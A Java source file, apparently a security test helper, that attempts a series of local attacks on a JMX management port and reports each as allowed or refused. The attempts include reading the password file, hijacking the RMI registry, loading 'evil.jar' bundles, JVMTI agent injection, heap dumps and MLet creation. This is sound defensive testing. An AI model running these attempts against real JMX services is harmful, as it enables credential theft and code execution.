import java.lang.management.ManagementFactory;
import java.nio.file.Files;
import java.nio.file.Path;
import java.rmi.Remote;
import java.rmi.registry.LocateRegistry;
import java.rmi.registry.Registry;
import java.util.HashMap;
import java.util.Map;
import javax.management.MBeanServerConnection;
import javax.management.ObjectName;
import javax.management.remote.JMXConnector;
import javax.management.remote.JMXConnectorFactory;
import javax.management.remote.JMXServiceURL;

/**
 * What a local user tries against jmaster's JMX port; run by SecurityIT as nobody and as postfix
 * with the JDK's source launcher. Each attempt prints one line: "<attempt>: ALLOWED" or
 * "<attempt>: REFUSED <exception>".
 *
 * Usage: java Attacker.java PORT HOME SERVICE [USER PASSWORD]
 */
public class Attacker {
    public static void main(String[] args) throws Exception {
        int port = Integer.parseInt(args[0]);
        Path home = Path.of(args[1]);
        ObjectName service = new ObjectName("org.jmaster:type=Service,name=" + ObjectName.quote(args[2]));
        ObjectName master = new ObjectName("org.jmaster:type=Master");
        String[] credentials = args.length >= 5 ? new String[] {args[3], args[4]} : null;
        String who = credentials == null ? "anonymous" : credentials[0];
        attempt("read the password file", () -> Files.readAllBytes(home.resolve("etc/jmxremote.password")));
        attempt("rebind jmxrmi in the registry", () -> {
            Registry registry = LocateRegistry.getRegistry("127.0.0.1", port);
            Remote fake = java.rmi.server.UnicastRemoteObject.exportObject(new Remote() { }, 0);
            registry.rebind("jmxrmi", fake);
        });
        attempt("unbind jmxrmi in the registry", () -> LocateRegistry.getRegistry("127.0.0.1", port).unbind("jmxrmi"));
        JMXConnector connector;
        try {
            Map<String, Object> env = new HashMap<>();
            if (credentials != null) {
                env.put(JMXConnector.CREDENTIALS, credentials);
            }
            connector = JMXConnectorFactory.connect(new JMXServiceURL(
                    "service:jmx:rmi:///jndi/rmi://127.0.0.1:" + port + "/jmxrmi"), env);
            System.out.println("connect as " + who + ": ALLOWED");
        } catch (Exception e) {
            System.out.println("connect as " + who + ": REFUSED " + e);
            System.exit(0);
            return;
        }
        MBeanServerConnection jmx = connector.getMBeanServerConnection();
        attempt("read TotalProcesses", () -> jmx.getAttribute(service, "TotalProcesses"));
        attempt("throttle", () -> jmx.invoke(service, "throttle", new Object[] {5}, new String[] {"int"}));
        attempt("unthrottle", () -> jmx.invoke(service, "unthrottle", null, null));
        attempt("cleanup", () -> jmx.invoke(service, "cleanup", null, null));
        attempt("set ProcessLimit", () -> jmx.setAttribute(service, new javax.management.Attribute("ProcessLimit", 3)));
        attempt("updateBundle http:", () -> jmx.invoke(master, "updateBundle",
                new Object[] {"org.jmaster.child", "http://127.0.0.1:1/evil.jar"}, new String[] {"java.lang.String", "java.lang.String"}));
        attempt("updateBundle jar:", () -> jmx.invoke(master, "updateBundle",
                new Object[] {"org.jmaster.child", "jar:file:" + home.resolve("bundle/child-runtime.jar") + "!/"},
                new String[] {"java.lang.String", "java.lang.String"}));
        attempt("updateBundle outside bundle/", () -> jmx.invoke(master, "updateBundle",
                new Object[] {"org.jmaster.child", "file:/tmp/evil.jar"}, new String[] {"java.lang.String", "java.lang.String"}));
        attempt("updateBundle through a link to bundle/", () -> {
            Path dir = Files.createTempDirectory("attacker");
            Path link = Files.createSymbolicLink(dir.resolve("bundle"), home.resolve("bundle"));
            try {
                jmx.invoke(master, "updateBundle", new Object[] {"org.jmaster.child", link.resolve("child-runtime.jar")
                        .toUri().toString()}, new String[] {"java.lang.String", "java.lang.String"});
            } finally {
                Files.delete(link);
                Files.delete(dir);
            }
        });
        attempt("DiagnosticCommand jvmtiAgentLoad", () -> jmx.invoke(
                new ObjectName("com.sun.management:type=DiagnosticCommand"), "jvmtiAgentLoad",
                new Object[] {new String[] {"/tmp/agent.so"}}, new String[] {String[].class.getName()}));
        attempt("DiagnosticCommand vmVersion", () -> jmx.invoke(
                new ObjectName("com.sun.management:type=DiagnosticCommand"), "vmVersion", null, null));
        attempt("HotSpotDiagnostic dumpHeap", () -> jmx.invoke(new ObjectName("com.sun.management:type=HotSpotDiagnostic"),
                "dumpHeap", new Object[] {"/tmp/heap.hprof", true}, new String[] {"java.lang.String", "boolean"}));
        attempt("createMBean MLet", () -> jmx.createMBean("javax.management.loading.MLet",
                new ObjectName("attacker:type=MLet")));
        attempt("unregisterMBean Master", () -> jmx.unregisterMBean(master));
        attempt("setLoggerLevel", () -> jmx.invoke(new ObjectName("java.util.logging:type=Logging"), "setLoggerLevel",
                new Object[] {"attacker.logger", "OFF"}, new String[] {"java.lang.String", "java.lang.String"}));
        connector.close();
        System.exit(0);
    }

    interface Attempt {
        void run() throws Exception;
    }

    private static void attempt(String what, Attempt attempt) {
        try {
            attempt.run();
            System.out.println(what + ": ALLOWED");
        } catch (Exception e) {
            Throwable cause = e;
            while (cause.getCause() != null && !(cause instanceof SecurityException)) {
                cause = cause.getCause();
            }
            System.out.println(what + ": REFUSED " + cause.toString().replace('\n', ' '));
        }
    }
}
